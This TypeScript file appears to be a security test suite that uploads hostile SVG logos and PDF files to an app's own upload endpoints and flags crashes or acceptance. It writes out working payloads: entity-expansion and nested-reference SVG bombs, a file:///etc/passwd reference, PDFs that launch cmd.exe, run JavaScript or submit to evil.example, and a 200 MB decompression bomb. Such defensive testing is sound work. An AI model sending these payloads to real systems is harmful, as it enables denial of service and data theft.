import { deflateSync } from 'node:zlib';
import type { Random } from '@folkmoot/sample-data/random';
import { type Attack, inTurn } from './attack';
import { fileBody } from './wire';

const SVG = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="80"${attributes}>${inner}</svg>`;

/** A picture that doubles at each level. */
const nestedUse = (levels: number): string => {
  const level = (at: number) =>
    `<g id="u${at}"><use href="#u${at - 1}" xlink:href="#u${at - 1}"/><use href="#u${at - 1}" xlink:href="#u${at - 1}" x="1"/></g>`;
  const all = Array.from({ length: levels }, (_, index) => level(index + 1)).join('');
  return SVG(
    `<defs><g id="u0"><rect width="9" height="9"/></g>${all}</defs><use href="#u${levels}" xlink:href="#u${levels}"/>`,
  );
};

const entities = (levels: number): string => {
  const lines = Array.from({ length: levels }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('');
  return `<!DOCTYPE svg [<!ENTITY e0 "lol">${lines}]>${SVG(`<text>&e${levels};</text>`)}`;
};

const hostileLogo = (random: Random, turn: number): string =>
  inTurn(turn, [
    () => SVG(`<style>a{fill:url(${random.pick([' ', '\t', '\n']).repeat(random.between(20_000, 200_000))}!)}</style>`),
    () => nestedUse(random.between(12, 26)),
    () => entities(random.between(6, 9)),
    () => SVG('<g>'.repeat(random.between(1_000, 40_000))),
    () =>
      SVG(
        `<filter id="f">${'<feGaussianBlur stdDeviation="900"/>'.repeat(60)}</filter><rect width="200" height="80" filter="url(#f)"/>`,
      ),
    () => SVG(`<path d="M0 0${'L1 1L2 2'.repeat(random.between(10_000, 120_000))}"/>`),
    () => SVG(`<image href="file:///etc/passwd" width="9" height="9"/>`),
    () =>
      SVG(
        `<pattern id="p" width=".001" height=".001"><rect width="1" height="1"/></pattern><rect width="200" height="80" fill="url(#p)"/>`,
      ),
    () => SVG('<rect width="9" height="9"/>', ` ${'a'.repeat(300_000)}="1"`),
  ])();

/** Logos that are small but costly to read or draw. */
export const costlyLogos: Attack = {
  name: 'costly logos',
  run: async (target, random, turn) => {
    const file = fileBody('logo.svg', 'image/svg+xml', Buffer.from(hostileLogo(random, turn)));
    const { status } = await target.as('neighbour', { method: 'POST', path: '/api/council/logo', ...file });
    return status === 0 || status === 500 ? [`a logo was answered ${status}`] : [];
  },
};

const pdfWith = (objects: readonly (string | Buffer)[]): Buffer => {
  const parts: Buffer[] = [Buffer.from('%PDF-1.5\n')];
  for (const [index, object] of objects.entries()) {
    parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n'));
  }
  parts.push(Buffer.from(`trailer << /Root 1 0 R /Size ${objects.length + 1} >>\n%%EOF\n`));
  return Buffer.concat(parts);
};

const packed = (text: string, times: number): Buffer => {
  const filters = times === 1 ? '/FlateDecode' : `[${'/FlateDecode '.repeat(times)}]`;
  const content = Array.from({ length: times }).reduce<Buffer>((bytes) => deflateSync(bytes), Buffer.from(text));
  const head = `<< /Type /ObjStm /N 1 /First 4 /Length ${content.length} /Filter ${filters} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head), content, Buffer.from('\nendstream')]);
};

const actions = [
  '<< /S /JavaScript /JS (app.alert(1)) >>',
  '<< /JS (app.alert(1)) >>',
  '<< /S /SubmitForm /F (http://evil.example/) >>',
  '<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>',
  '<< /S /Launch /F (cmd.exe) >>',
  '<< /S /ImportData /F (x.fdf) >>',
  '<< /S /URI /URI (http://evil.example/) >>',
  '<< /S /J#61vaScript /J#53 (app.alert(1)) >>',
];

const hostilePdf = (random: Random, turn: number): { what: string; file: Buffer; isOnlyCostly?: boolean } => {
  const action = inTurn(turn, actions);
  const pages = '<< /Type /Pages /Kids [] /Count 0 >>';
  return inTurn(turn, [
    () => ({ what: action, file: pdfWith([`<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`, pages]) }),
    () => ({
      what: `${action}, packed`,
      file: pdfWith([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>',
        pages,
        packed(`9 0 ${action}`, random.between(1, 3)),
      ]),
    }),
    () => ({
      what: 'thousands of streams',
      isOnlyCostly: true,
      file: pdfWith([
        '<< /Type /Catalog /Pages 2 0 R >>',
        pages,
        ...Array.from({ length: 15_000 }, () => packed('1 0 x', 1)),
      ]),
    }),
    () => ({
      what: 'a stream that unpacks to 200 MB',
      isOnlyCostly: true,
      file: pdfWith(['<< /Type /Catalog /Pages 2 0 R >>', pages, packed('x'.repeat(200_000_000), 2)]),
    }),
  ])();
};

/** PDF files with actions on opening, or that are costly to read. */
export const hostilePdfs: Attack = {
  name: 'PDF files that act',
  run: async (target, random, turn) => {
    const { what, file, isOnlyCostly } = hostilePdf(random, turn);
    const sent = fileBody('intro.pdf', 'application/pdf', file);
    const { status } = await target.as('officer', { method: 'POST', path: '/api/assets/intro-files', ...sent });
    if (status === 0 || status === 500) return [`a PDF with ${what} was answered ${status}`];
    return status < 400 && !isOnlyCostly ? [`a PDF with ${what} was taken`] : [];
  },
};
